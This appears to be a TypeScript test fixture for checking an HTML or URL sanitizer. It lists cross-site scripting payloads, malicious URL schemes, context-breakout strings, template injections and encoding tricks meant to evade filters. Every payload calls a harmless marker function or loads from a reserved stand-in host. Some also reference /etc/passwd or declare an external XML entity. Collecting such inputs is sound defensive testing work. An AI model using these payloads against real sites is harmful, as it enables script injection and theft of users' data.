@@ -1,0 +1,170 @@
+/*
+ * Texts that a page would run, or fetch something for, if it took them for anything but text. Each would call
+ * `keepsakeRan`, or ask for an address of nobody.
+ */
+
+const RUN = "keepsakeRan(1)";
+const AWAY = "//keepsake.invalid/x";
+
+/** Elements that run something without anybody touching them. */
+const loud: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script src="${AWAY}.js"></script>`,
+  `<script type="module">${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src="${AWAY}.png">`,
+  `<img srcset="${AWAY}.png 1x" src=x onerror=${RUN}>`,
+  `<picture><source srcset="${AWAY}.webp"><img src=x onerror=${RUN}></picture>`,
+  `<svg onload=${RUN}></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
+  `<svg><image href="${AWAY}.png"></image></svg>`,
+  `<svg><use href="${AWAY}.svg#x"></use></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="${AWAY}"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="${AWAY}.svg" type="image/svg+xml"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<embed src="${AWAY}.swf">`,
+  `<video src=x onerror=${RUN}></video>`,
+  `<video poster="${AWAY}.png"></video>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<audio src="${AWAY}.mp3" autoplay></audio>`,
+  `<body onload=${RUN}>`,
+  `<body background="${AWAY}.png">`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<button autofocus onfocus=${RUN}>x</button>`,
+  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<style>@import "${AWAY}.css";</style>`,
+  `<style>body{background:url(${AWAY}.png)}</style>`,
+  `<style>*{animation:x}@keyframes x{}</style><p onanimationstart=${RUN}>x</p>`,
+  `<link rel=stylesheet href="${AWAY}.css">`,
+  `<link rel=preload as=script href="${AWAY}.js">`,
+  `<link rel=prefetch href="${AWAY}">`,
+  `<link rel=dns-prefetch href="${AWAY}">`,
+  `<link rel=manifest href="${AWAY}.json">`,
+  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
+  `<base href="${AWAY}/">`,
+  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
+  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
+  `<isindex type=image src=1 onerror=${RUN}>`,
+  `<portal src="${AWAY}"></portal>`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<title><img src=x onerror=${RUN}></title>`,
+  `<p style="background:url(${AWAY}.png)">x</p>`,
+  `<p style="width:expression(${RUN})">x</p>`,
+  `<p contenteditable autofocus onfocus=${RUN} tabindex=1>x</p>`,
+  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
+  `<a ping="${AWAY}" href="#">x</a>`,
+  `<table background="${AWAY}.png"><td background="${AWAY}.png"></table>`,
+  `<track src="${AWAY}.vtt" default>`,
+  `<applet code="${AWAY}"></applet>`,
+  `<frameset onload=${RUN}><frame src="${AWAY}"></frameset>`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<x onpointerrawupdate=${RUN} style=display:block>x</x>`,
+  `<x onscrollsnapchange=${RUN} oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
+];
+
+/** Addresses that are none of the web. */
+const addresses: readonly string[] = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  ` javascript:${RUN}`,
+  `javascript://%0a${RUN}`,
+  `javascript://keepsake.invalid/%0a${RUN}`,
+  `vbscript:${RUN}`,
+  `livescript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5rZWVwc2FrZVJhbigxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  `blob:null/${RUN}`,
+  `filesystem:null/${RUN}`,
+  `file:///etc/passwd`,
+  `view-source:javascript:${RUN}`,
+  `about:blank#<script>${RUN}</script>`,
+  `intent://x#Intent;scheme=http;S.browser_fallback_url=javascript:${RUN};end`,
+  `weixin://dl/${RUN}`,
+  `https://keepsake.invalid/"onmouseover="${RUN}`,
+  `https://keepsake.invalid/'onfocus='${RUN}`,
+  `https://keepsake.invalid/><script>${RUN}</script>`,
+  `http://[::1`,
+  `http://user:pass@keepsake.invalid/<svg/onload=${RUN}>`,
+];
+
+/** Texts that leave an attribute, a script, a template or a comment that they were put into. */
+const exits: readonly string[] = [
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `\`><img src=x onerror=${RUN}>`,
+  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
+  `' onmouseover=${RUN} autofocus onfocus=${RUN} x='`,
+  `" style="animation:x" onanimationstart="${RUN}`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</noscript><script>${RUN}</script>`,
+  `\${${RUN}}`,
+  `{{constructor.constructor("${RUN}")()}}`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `";${RUN};//`,
+  `';${RUN};//`,
+  `\\";${RUN};//`,
+  `\u2028${RUN}\u2029`,
+  `__proto__`,
+  `constructor`,
+  `dangerouslySetInnerHTML`,
+  `{"__html":"<img src=x onerror=${RUN}>"}`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "${AWAY}">]><x>&y;</x>`,
+];
+
+/** The same in other clothes: filters that look for letters miss these, parsers do not. */
+const clothes: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.replace(/<([a-z]+)/gi, (_, name: string) => `<${mixed(name)}`),
+  (text) => text.replace(/<([a-z]+) /gi, "<$1/"),
+  (text) => text.replace(/<([a-z]+) /gi, "<$1\f"),
+  (text) => `\u202e${text}\u0000\ufeff`,
+  (text) => `好的 ${text.replaceAll("=", " =\n")} 收到`,
+];
+
+function mixed(name: string): string {
+  return [...name].map((letter, i) => (i % 2 === 0 ? letter.toUpperCase() : letter)).join("");
+}
+
+/** All of them, each once. */
+export const payloads: readonly string[] = [
+  ...new Set([...loud, ...addresses, ...exits].flatMap((text) => clothes.map((dress) => dress(text)))),
+];
+
+export const hostileAddresses: readonly string[] = addresses;
